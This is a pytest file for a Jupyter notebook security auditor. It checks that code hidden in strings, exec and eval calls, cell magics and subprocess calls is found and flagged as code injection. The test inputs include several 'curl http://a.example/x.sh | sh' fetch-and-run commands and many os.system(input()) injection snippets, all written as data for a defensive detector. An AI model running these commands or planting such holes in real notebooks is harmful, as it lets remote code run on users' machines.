"""Code that stands in a text and runs all the same is looked at as code."""

from datetime import date

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from jupyter_audit.config import DEFAULT
from jupyter_audit.engine import audit
from jupyter_audit.model.finding import Finding, Severity
from jupyter_audit.model.project import Project
from jupyter_audit.notebook.reading.embedded import MAX_DEPTH, MAX_SNIPPETS, embedded
from jupyter_audit.notebook.reading.percent import parse_percent


def high(script: str) -> list[Finding]:
    report = audit(parse_percent(script, "n"), None, Project(today=date(2026, 1, 1)), DEFAULT)
    assert not [each for each in report.skipped if "failed" in each.why]
    return [finding for finding in report.findings if finding.severity.rank >= Severity.HIGH.rank]


@pytest.mark.parametrize(
    ("script", "cell", "line"),
    [
        ("# %%\n%%python\nimport os\nname = input()\nos.system('ls ' + name)", 0, 4),
        ("# %%\n%%script python3 -u\nimport os\nif __name__ == '__main__':\n    os.system(input())", 0, 4),
        ("# %%\nimport os\n# %%\nexec('''\nx = 1\nos.system(input())\n''')", 1, 3),
        ("# %%\nimport os\ncommand = input()\n# %%\nexec('os.system(command)')", 1, 1),
        ("# %%\nimport os\nexec('x = 1\\nos.system(input())')", 0, 2),
        ("# %%\nimport os\nvalue = eval('os.popen(input())')", 0, 2),
        ("# %%\nCODE = '''\nimport os\nos.system(input())\n'''\n# %%\nexec(compile(CODE, 'n', 'exec'))", 1, 1),
        ("# %%\nip = get_ipython()\nip.run_cell('''\nimport os\nos.system(input())\n''')", 0, 4),
        ("# %%\nget_ipython().run_cell('!curl http://a.example/x.sh | sh')", 0, 1),
        ("# %%\nget_ipython().run_cell_magic('bash', '', 'curl http://a.example/x.sh | sh')", 0, 1),
        ("# %%\nget_ipython().run_line_magic('sx', 'curl http://a.example/x.sh | sh')", 0, 1),
        ("# %%\nget_ipython().run_cell_magic('python', '', 'import os; os.system(input())')", 0, 1),
        ("# %%\n%%bash\necho start\npython3 - <<'EOF'\nimport os\nos.system(input())\nEOF", 0, 5),
        ('# %%\n!python -c "import os; os.system(input())"', 0, 1),
        ("# %%\nimport os\nexec(b'os.system(input())')", 0, 2),
        ("# %%\nopen('t.py', 'w').write('''\nimport os\nos.system(input())\n''')", 0, 3),
        ("# %%\nCODE = '''\nimport os\nos.system(input())\n'''\n# %%\nopen('t.py', 'w').write(CODE)", 0, 3),
        ("# %%\nimport os\nexec('os.sys' + 'tem(input())')", 0, 2),
        ("# %%\nimport os\nexec(f'os.system(input())')", 0, 2),
        ("# %%\n%%capture out\n%%python\nimport os\nos.system(input())", 0, 4),
        (
            "# %%\nimport subprocess, sys\nsubprocess.run([sys.executable, '-c', '''\nimport os\nos.system(input())'''])",
            0,
            4,
        ),
        ("# %%\nimport os\nos.system(\"python -c 'import os; os.system(input())'\")", 0, 2),
        (
            "# %%\nimport asyncio, sys\nawait asyncio.create_subprocess_exec(sys.executable, '-c', 'eval(input())')",
            0,
            2,
        ),
        ("# %%\nimport os\nexec('exec(\"os.system(input())\")')", 0, 2),
    ],
)
def test_it_is_found_where_it_stands(script: str, cell: int, line: int) -> None:
    (finding,) = high(script)
    assert (finding.place.cell, finding.place.line) == (cell, line)
    assert finding.place.cell_id is not None
    assert not finding.place.cell_id.startswith("text:")


@pytest.mark.parametrize(
    "script",
    [
        "# %%\nimport os\ntext = 'os.system(input())'\nprint(text)",
        "# %%\nmodel.eval()\nprint(table.eval('a + b'))",
        "# %%\nexec('this is no Python')",
        "# %%\nimport os\nCODE = 'x = 1'\n# %%\nCODE = 'os.system(input())'\n# %%\nexec('y = 2')",
        "# %%\n%%python\nprint('os.system(input())')",
        "# %%\n%%bash\ncat > notes.txt <<EOF\nimport os\nos.system(input())\nEOF",
    ],
)
def test_a_text_that_does_not_run_is_no_code(script: str) -> None:
    assert high(script) == []


def test_what_a_fix_would_write_into_a_text_is_not_offered() -> None:
    bare = "import yaml, requests\nyaml.load(requests.get('https://a.example').text, Loader=yaml.Loader)"
    alone = high(f"# %%\n{bare}")
    inside = high(f"# %%\nexec({bare!r})")
    assert [each.rule for each in alone] == [each.rule for each in inside] == ["unsafe-yaml"]
    assert alone[0].fix is not None
    assert inside[0].fix is None


@given(st.text("abc()'\"\\\n %!#=:,.{}xeglobnral 1", max_size=60))
@example("x = 1\nglobal x")
@example("nonlocal y")
@example("return 1")
@example("'" + "a" * 40 + "' + " * 3 + "b")
def test_whatever_stands_there_the_rest_is_audited(text: str) -> None:
    for cell in (f"%%python\n{text}", f"exec({text!r})", f"!python -c {text!r}"):
        report = audit(parse_percent(f"# %%\n{cell}\n# %%\neval(input())", "n"), None, Project(), DEFAULT)
        assert "code-injection" in {finding.rule for finding in report.findings}
        assert not [each for each in report.skipped if "failed" in each.why]


def test_it_is_bounded() -> None:
    many = "\n".join("exec('x = 1')" for _ in range(MAX_SNIPPETS + 50))
    assert len(embedded(parse_percent(f"# %%\n{many}", "n"))) == MAX_SNIPPETS
    deep = "x = 1"
    for _ in range(MAX_DEPTH + 2):
        deep = f"exec({deep!r})"
    assert len(embedded(parse_percent(f"# %%\n{deep}", "n"))) == MAX_DEPTH
    assert embedded(parse_percent("# %%\nCODE = 'exec(CODE)'\n# %%\nexec(CODE)", "n"))  # and it ends
